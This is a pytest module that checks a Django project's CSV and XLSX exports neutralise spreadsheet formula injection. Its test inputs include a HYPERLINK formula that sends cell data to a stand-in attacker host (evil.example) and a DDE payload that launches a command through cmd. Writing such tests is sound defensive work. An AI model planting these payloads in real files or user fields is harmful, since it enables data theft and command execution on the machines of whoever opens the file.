"""Exports never carry live formulas: every CSV/XLSX cell starting with = + - @ (tab, CR) is neutralised (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import tablib
from django.urls import reverse
from openpyxl import load_workbook

from poc.exports import csv_text, neutralise, neutralise_table
from poc.models import OrgUnit
from poc.services import accounts_create_from_csv
from risk.exports import report_xlsx
from risk.models import MitigationAction
from risk.selectors import survey_report
from tests.cockpit.conftest import fy_dataset, inputs, monthly_dataset, rate, topic  # noqa: F401
from tests.risk.test_survey import campaign, questions  # noqa: F401
from verification.reports import responsibility_xlsx
from verification.timeliness import responsibility_matrix

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1,200.5", "-1,200.5"),
        ("ก=1", "ก=1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_triggers_but_keeps_plain_numbers(value, expected):
    assert neutralise(value) == expected


def test_csv_and_tablib_helpers_neutralise_headers_and_cells():
    rows = list(csv.reader(io.StringIO(csv_text(["=h"], [["@x", "1"]]))))
    assert rows == [["'=h"], ["'@x", "1"]]
    table = neutralise_table(tablib.Dataset(("=2+3", "-4"), headers=["period", "+code"], title="T"))
    assert table.headers == ["period", "'+code"] and list(table[0]) == ["'=2+3", "-4"]
    book = load_workbook(io.BytesIO(table.export("xlsx")))
    assert book.active["A2"].value == "'=2+3" and book.active["A2"].data_type == "s"


@pytest.mark.django_db
def test_one_time_password_csv_neutralises_usernames(agency_a):
    result = accounts_create_from_csv("agency_code,username,roles\nAG-A,-1+2,data_entry\n")
    assert not result.errors
    rows = list(csv.DictReader(io.StringIO(result.output_csv())))
    assert rows[0]["username"] == "'-1+2"


@pytest.mark.django_db
def test_survey_report_xlsx_has_no_formula(campaign, it_admin):  # noqa: F811
    MitigationAction.objects.create(campaign=campaign, description="ล็อกห้อง", owner=HYPERLINK, due_date=dt.date(2025, 9, 1))
    book = load_workbook(io.BytesIO(report_xlsx(survey_report(campaign))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HYPERLINK in [c.value for c in cells]


@pytest.mark.django_db
def test_responsibility_matrix_xlsx_has_no_formula(fy_dataset, it_admin):  # noqa: F811
    fy_dataset.contact_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    fy_dataset.save()
    book = load_workbook(io.BytesIO(responsibility_xlsx(responsibility_matrix(user=it_admin))))
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_pivot_exports_neutralise_names(client, executive, rate, kind):  # noqa: F811
    OrgUnit.objects.filter(code="99").update(name_th="=1+1", name_en="=1+1")
    client.force_login(executive)
    response = client.get(reverse("cockpit:pivot"), {"item": f"i:{rate.pk}", "export": kind, "from": "2567", "to": "2568"})
    assert response.status_code == 200
    if kind == "csv":
        first_column = [row[0] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    else:
        first_column = [row[0].value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
    assert "'=1+1" in first_column and "=1+1" not in first_column
